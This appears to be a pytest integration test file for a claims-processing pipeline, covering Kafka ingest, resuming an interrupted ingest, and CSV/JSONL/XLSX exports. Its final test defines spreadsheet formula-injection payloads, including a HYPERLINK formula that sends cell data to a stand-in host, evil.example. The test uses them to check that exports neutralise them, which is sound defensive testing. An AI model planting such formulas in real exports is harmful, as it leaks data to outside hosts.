"""CSV ingest into the real broker, exports from the real Postgres, and the CSV round trip."""

from __future__ import annotations

import asyncio
import csv
import gzip
import json
import os
import subprocess
import sys
import zipfile
from pathlib import Path
from typing import Any

import pytest
from aiokafka import AIOKafkaProducer
from openpyxl import load_workbook
from sqlalchemy.ext.asyncio import create_async_engine

from sinks.rows import claim_row, drift_row
from sinks.writer import PostgresWriter
from streams.app.ingest import IN_FLIGHT
from streams.app.services import migrate_database
from streams.devtools.generator import Scenario, generate, produce
from streams.devtools.probes import read_all
from streams.kafka.ledger import Ledger, file_digest, ledger_key
from streams.kafka.topics import create_topics
from streams.reference import load_reference
from tests.integration.stack import (
    ServiceStack,
    create_database,
    outputs,
    wait_consumed,
    worker_stack,
)

pytestmark = pytest.mark.integration

FULL = ("claim_id,customer_id,payer_id,cpt_code,submitted_date,decided_date,outcome,"
        "billed_amount,allowed_amount,denial_reason_codes")  # fmt: skip


async def test_ingest_publishes_exactly_the_valid_rows(
    kafka_bootstrap: str, unique: str, tmp_path: Path
) -> None:
    """Good, bad and duplicate rows, gzip and stdin: exact counts in Kafka and in the report."""
    stack = worker_stack(kafka_bootstrap, unique, tmp_path, "i")
    await create_topics(stack.settings(), kafka_bootstrap)
    topic = stack.settings().topic_claims
    good = [f"c{i},acme,p1,71046,2026-01-01,2026-01-05,PAID,100.00,80.00," for i in range(250)]
    bad = [
        "x1,acme,p1,71046,2026-01-09,2026-01-05,PAID,100,80,",  # decided before submitted
        "x2,acme,p1,ABC,2026-01-01,2026-01-05,PAID,100,80,",  # no CPT group
        "x3,acme,p1,71046,2026-01-01,2026-01-05,PAID,1e999,80,",  # absurd amount
        "x4,acme,p1,71046",  # short row
    ]
    rows = [FULL, *good[:100], bad[0], good[5], *good[100:200], *bad[1:], *good[200:]]
    path = tmp_path / "claims.csv.gz"
    with gzip.open(path, "wt", newline="") as f:
        f.write("\n".join(rows) + "\n")

    result = stack.cli("ingest", str(path))
    assert result.returncode == 1, result.stderr  # rows were rejected
    assert "255 rows: 251 published" in result.stderr
    assert "4 rejected" in result.stderr
    with (tmp_path / "claims.rejects.csv").open(newline="") as f:
        report = list(csv.DictReader(f))
    assert [r["row"].split(",")[0] for r in report] == ["x1", "x2", "x3", "x4"]
    assert [int(r["line"]) for r in report] == [102, 204, 205, 206]
    messages = await read_all(kafka_bootstrap, topic)
    keys = sorted(m.key.decode() for m in messages)
    assert len(messages) == 251  # the resend of c5 is published; the worker deduplicates it
    assert keys == sorted([f"c{i}" for i in range(250)] + ["c5"])
    assert all(json.loads(m.value)["cpt_group"] == "radiology" for m in messages)

    legacy = "payer,cpt,submitted_date,decided_date,outcome,allowed_amount\n" + "\n".join(
        f"Blue Cross,99213,2026-02-01,2026-02-0{d},PAID,{d}0.00" for d in range(1, 8)
    )
    result = stack.cli("ingest", "-", "--customer", "acme", "--quiet", stdin=legacy)
    assert result.returncode == 0, result.stderr
    assert "legacy layout" in result.stderr
    assert "7 rows: 7 published" in result.stderr
    again = stack.cli("ingest", "-", "--customer", "acme", "--quiet", stdin=legacy)
    assert again.returncode == 0, again.stderr
    assert "was ingested at" in again.stderr
    assert "nothing published" in again.stderr

    def legacy_records(messages: list[Any]) -> list[dict[str, Any]]:
        records = [json.loads(m.value) for m in messages]
        return [r for r in records if r["claim_id"].startswith("legacy-")]

    records = legacy_records(await read_all(kafka_bootstrap, topic))
    assert len(records) == 7
    assert {r["payer_id"] for r in records} == {"bcbs"}
    # --again publishes the file anew, with the same claim ids: a no-op downstream.
    forced = stack.cli("ingest", "-", "--customer", "acme", "--quiet", "--again", stdin=legacy)
    assert forced.returncode == 0, forced.stderr
    assert "7 rows: 7 published" in forced.stderr, forced.stderr
    records = legacy_records(await read_all(kafka_bootstrap, topic))
    assert len(records) == 14
    assert len({r["claim_id"] for r in records}) == 7
    # The same rows as another customer are another file.
    other = stack.cli("ingest", "-", "--customer", "beta", "--quiet", stdin=legacy)
    assert other.returncode == 0, other.stderr
    assert "7 rows: 7 published" in other.stderr, other.stderr
    # The gzip file again: nothing published, the earlier report left as it was.
    repeat = stack.cli("ingest", str(path))
    assert repeat.returncode == 0, repeat.stderr
    assert "nothing published" in repeat.stderr, repeat.stderr
    assert (tmp_path / "claims.rejects.csv").exists()
    assert len(await read_all(kafka_bootstrap, topic)) == 251 + 14 + 7

    unknown = stack.cli("ingest", str(tmp_path / "missing.csv"))
    assert unknown.returncode == 2
    assert "no such file" in unknown.stderr


async def test_a_file_read_another_way_is_ingested_again_with_its_rows_fixed(
    kafka_bootstrap: str, unique: str, tmp_path: Path
) -> None:
    """A row rejected as not UTF-8: the same file again publishes nothing, but with the
    --encoding the message suggests it is another ingest, and the fixed row is published."""
    stack = worker_stack(kafka_bootstrap, unique, tmp_path, "e")
    await create_topics(stack.settings(), kafka_bootstrap)
    rows = [f"e{i},acme,p1,71046,2026-01-01,2026-01-05,PAID,100.00,80.00,".encode()
            for i in range(20)]  # fmt: skip
    rows[7] = "e7,acme,Soci\xe9t\xe9,71046,2026-01-01,2026-01-05,PAID,100,80,".encode("cp1252")
    path = tmp_path / "export.csv"
    path.write_bytes(FULL.encode() + b"\n" + b"\n".join(rows) + b"\n")

    first = stack.cli("ingest", str(path), "--quiet")
    assert first.returncode == 1, first.stderr
    assert "20 rows: 19 published" in first.stderr
    same = stack.cli("ingest", str(path), "--quiet")
    assert same.returncode == 0, same.stderr
    assert "nothing published" in same.stderr
    fixed = stack.cli("ingest", str(path), "--quiet", "--encoding", "cp1252")
    assert fixed.returncode == 0, fixed.stderr
    assert "20 rows: 20 published" in fixed.stderr
    keys = [m.key.decode() for m in await read_all(kafka_bootstrap, stack.settings().topic_claims)]
    assert sorted(set(keys)) == sorted(f"e{i}" for i in range(20))
    assert keys.count("e7") == 1  # the others went twice, and count once downstream


async def test_an_ingest_killed_part_way_resumes_after_its_last_acknowledged_line(
    kafka_bootstrap: str, unique: str, tmp_path: Path
) -> None:
    """SIGKILL mid-file, ingest again: every row published, at most one in-flight block twice."""
    stack = worker_stack(kafka_bootstrap, unique, tmp_path, "k")
    settings = stack.settings()
    await create_topics(settings, kafka_bootstrap)
    total = 120_000
    path = tmp_path / "big.csv"
    path.write_text(FULL + "\n" + "".join(
        f"k{i},acme,p1,71046,2026-01-01,2026-01-05,PAID,100.00,80.00,\n" for i in range(total)
    ))  # fmt: skip
    command = [sys.executable, "-m", "streams.app.cli", "ingest", str(path), "--quiet"]
    first = await asyncio.create_subprocess_exec(
        *command, env={**os.environ, **stack.env}, stderr=subprocess.PIPE
    )
    producer = AIOKafkaProducer(bootstrap_servers=kafka_bootstrap)
    await producer.start()
    try:
        ledger = Ledger(kafka_bootstrap, settings.topic_ingest_ledger, producer)
        # How ingest reads this file by default: no --customer, utf-8, JSON, the default mappings.
        reading = {"customer": "", "encoding": "utf-8", "format": "json",
                   "mappings": load_reference(None, None).version}  # fmt: skip
        key = ledger_key(settings.topic_claims, file_digest(path), reading)
        for _ in range(600):
            if (entry := await ledger.lookup(key)) is not None:
                break
            assert first.returncode is None, await first.communicate()
            await asyncio.sleep(0.05)
        else:
            pytest.fail("ingest wrote no ledger entry in 30 s")
        first.kill()
        await first.wait()
        assert not entry.complete, "ingest finished before the kill: make the file longer"
        killed_at = entry.through_line
        assert 1 < killed_at < total + 1

        resumed = stack.cli("ingest", str(path), "--quiet")
        assert resumed.returncode == 0, resumed.stderr
        assert "resuming" in resumed.stderr
        assert "already published" in resumed.stderr
        done = await ledger.lookup(key)
        assert done is not None
        assert done.complete
        assert done.through_line == total + 1
    finally:
        await producer.stop()
    messages = await read_all(kafka_bootstrap, settings.topic_claims)
    keys = [m.key.decode() for m in messages]
    assert set(keys) == {f"k{i}" for i in range(total)}
    assert len(keys) - total <= IN_FLIGHT  # only rows in flight at the kill went out twice
    # Rows up to the ledger's line before the kill were not sent again.
    assert keys.count("k0") == 1


async def test_export_writes_csv_jsonl_and_an_xlsx_workbook(
    postgres_url: str, unique: str, tmp_path: Path
) -> None:
    """Fixture rows in Postgres; each format read back and checked."""
    database_url = create_database(postgres_url, f"export_{unique}")
    await asyncio.to_thread(migrate_database, database_url)
    engine = create_async_engine(database_url)
    base = {"customer_id": "acme", "cpt_group": "radiology", "drift_type": "denial_rate",
            "window_days": 7.0, "baseline_start": 0, "baseline_end": 1, "current_start": 2,
            "current_end": 3, "baseline_value": 0.1, "current_value": 0.3, "delta_value": 0.2,
            "baseline_n": 100, "current_n": 40, "p_value": 1e-6, "q_value": 1e-5,
            "severity": 0.8, "confidence": 0.99}  # fmt: skip
    drifts = [
        drift_row({**base, "event_id": f"e{i}", "payer_id": f"p{i % 2}",
                   "severity_level": ("warning", "critical")[i % 2],
                   "detected_at": 1_767_225_600_000 + i * 86_400_000})  # 2026-01-01 + i days
        for i in range(10)
    ]  # fmt: skip
    other = drift_row({**base, "event_id": "o1", "customer_id": "other", "payer_id": "p0",
                       "severity_level": "info", "detected_at": 1_767_225_600_000})  # fmt: skip
    claims = [
        claim_row({"claim_id": f"c{i}", "customer_id": "acme", "payer_id": "p1",
                   "cpt_code": "71046", "submitted_date": "2026-01-01",
                   "decided_date": f"2026-0{1 + i % 2}-10",
                   "outcome": ("PAID", "DENIED")[i % 4 == 0],
                   "billed_amount": "100", "allowed_amount": "80",
                   "denial_reason_codes": ["CO-97"] if i % 4 == 0 else []}, 0, i)
        for i in range(8)
    ]  # fmt: skip
    await PostgresWriter(engine).write([*drifts, other], [], claims)
    await engine.dispose()
    stack = ServiceStack("unused:9092", database_url, unique, tmp_path)

    def export(*args: str) -> subprocess.CompletedProcess[str]:
        result = stack.cli("export", *args, "--customer", "acme", "--quiet")
        assert result.returncode == 0, result.stderr
        return result

    out = export("drift-events", "--since", "2026-01-03", "--until", "2026-01-08")
    rows = list(csv.DictReader(out.stdout.splitlines()))
    assert [r["event_id"] for r in rows] == ["e2", "e3", "e4", "e5", "e6"]
    assert rows[0]["detected_at"] == "2026-01-03T00:00:00+00:00"

    jsonl = tmp_path / "claims.jsonl"
    export("claims", "--format", "jsonl", "-o", str(jsonl))
    records = [json.loads(line) for line in jsonl.read_text().splitlines()]
    assert [r["claim_id"] for r in records] == ["c0", "c2", "c4", "c6", "c1", "c3", "c5", "c7"]
    assert records[0]["denial_reason_codes"] == "CO-97"
    assert records[0]["allowed_amount"] == "80.00"

    book_path = tmp_path / "drift.xlsx"
    export("drift-events", "--format", "xlsx", "-o", str(book_path))
    book = load_workbook(book_path, read_only=True)
    assert book.sheetnames == ["Summary", "Details"]
    summary = [list(r) for r in book["Summary"].iter_rows(min_row=3, values_only=True)]
    assert summary == [["payer_id", "info", "warning", "critical"], ["p0", 0, 5, 0],
                       ["p1", 0, 0, 5]]  # fmt: skip
    details = list(book["Details"].iter_rows(values_only=True))
    assert len(details) == 11
    assert details[0][0] == "event_id"
    book.close()
    with zipfile.ZipFile(book_path) as archive:
        assert any(name.startswith("xl/charts/chart") for name in archive.namelist())

    claims_book = tmp_path / "claims.xlsx"
    export("claims", "--format", "xlsx", "-o", str(claims_book))
    book = load_workbook(claims_book, read_only=True)
    summary = [list(r) for r in book["Summary"].iter_rows(min_row=4, values_only=True)]
    assert summary == [["2026-01", 4, 2, 0.5], ["2026-02", 4, 0, 0]]
    book.close()

    refused = stack.cli("export", "alerts", "--customer", "acme", "--format", "xlsx")
    assert refused.returncode == 2
    assert "needs --output" in refused.stderr
    nowhere = ServiceStack("unused:9092", "postgresql+psycopg://x@127.0.0.1:1/db", unique, tmp_path)
    unreachable = nowhere.cli("export", "claims", "--customer", "acme")
    assert unreachable.returncode == 2
    assert "database error" in unreachable.stderr
    assert unreachable.stdout == ""  # not even a header before the query ran


async def test_generate_to_csv_then_ingest_gives_the_same_drift_as_generating_to_kafka(
    kafka_bootstrap: str, unique: str, tmp_path: Path
) -> None:
    """Seed data through a file reaches the same drift events and alerts as straight to Kafka."""
    scenario = Scenario(name="denial-spike", days=60, spike_day=42)
    runs: list[dict[str, Any]] = []
    for suffix, via_csv in (("k", False), ("f", True)):
        (tmp_path / suffix).mkdir()
        stack = worker_stack(kafka_bootstrap, unique, tmp_path, suffix)
        await create_topics(stack.settings(), kafka_bootstrap)
        stack.start("worker")
        try:
            claims = generate(scenario)
            if via_csv:
                path = tmp_path / "seed.csv.gz"
                made = stack.cli("generate", "--days", "60", "--spike-day", "42",
                            "--to-csv", str(path))  # fmt: skip
                assert made.returncode == 0, made.stderr
                ingested = stack.cli("ingest", str(path), "--quiet")
                assert ingested.returncode == 0, ingested.stderr
            else:
                await produce(scenario, kafka_bootstrap, stack.settings().topic_claims)
            await wait_consumed(stack, len(claims))
            runs.append(await outputs(stack))
        finally:
            assert stack.stop_all() == {"worker": 0}, stack.log("worker")[-3000:]
    straight, via_file = runs
    assert straight["drifts"], "the spike produced no drift event"
    assert via_file["drifts"] == straight["drifts"]
    assert via_file["alerts"] == straight["alerts"]


FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A2,"Click")', "+1+1", "-2+3", "@SUM(A1)",
            "=1+1;2"]  # fmt: skip


async def test_exports_write_formulas_from_claims_as_text(
    postgres_url: str, unique: str, tmp_path: Path
) -> None:
    """Payer ids and names that start like a formula: quoted in CSV (OWASP), text cells in
    XLSX, unchanged in JSON lines."""
    database_url = create_database(postgres_url, f"inject_{unique}")
    await asyncio.to_thread(migrate_database, database_url)
    engine = create_async_engine(database_url)
    claims = [
        claim_row({"claim_id": f"c{i}", "customer_id": "acme", "payer_id": text[:100],
                   "payer_name": text, "cpt_code": "71046", "submitted_date": "2026-01-01",
                   "decided_date": "2026-01-10", "outcome": "DENIED", "billed_amount": "100",
                   "allowed_amount": "0", "denial_reason_codes": [text]}, 0, i)
        for i, text in enumerate(FORMULAS)
    ]  # fmt: skip
    await PostgresWriter(engine).write([], [], claims)
    await engine.dispose()
    stack = ServiceStack("unused:9092", database_url, unique, tmp_path)
    out = stack.cli("export", "claims", "--customer", "acme", "--quiet")
    assert out.returncode == 0, out.stderr
    rows = sorted(csv.DictReader(out.stdout.splitlines()), key=lambda r: r["claim_id"])
    assert [r["payer_name"] for r in rows] == ["'" + text for text in FORMULAS]
    assert [r["payer_id"] for r in rows] == ["'" + text[:100] for text in FORMULAS]
    assert [r["denial_reason_codes"] for r in rows] == ["'" + text for text in FORMULAS]
    assert {r["billed_amount"] for r in rows} == {"100.00"}  # numbers untouched

    jsonl = tmp_path / "claims.jsonl"
    assert stack.cli("export", "claims", "--customer", "acme", "--quiet", "--format", "jsonl",
                     "-o", str(jsonl)).returncode == 0  # fmt: skip
    names = sorted(json.loads(line)["payer_name"] for line in jsonl.read_text().splitlines())
    assert names == sorted(FORMULAS)

    book_path = tmp_path / "claims.xlsx"
    assert stack.cli("export", "claims", "--customer", "acme", "--quiet", "--format", "xlsx",
                     "-o", str(book_path)).returncode == 0  # fmt: skip
    sheet = load_workbook(book_path)["Details"]
    header = [c.value for c in sheet[1]]
    cells = [row[header.index("payer_name")] for row in sheet.iter_rows(min_row=2)]
    assert sorted(c.value for c in cells) == sorted(FORMULAS)
    assert {c.data_type for c in cells} == {"s"}  # text, never a formula ("f")
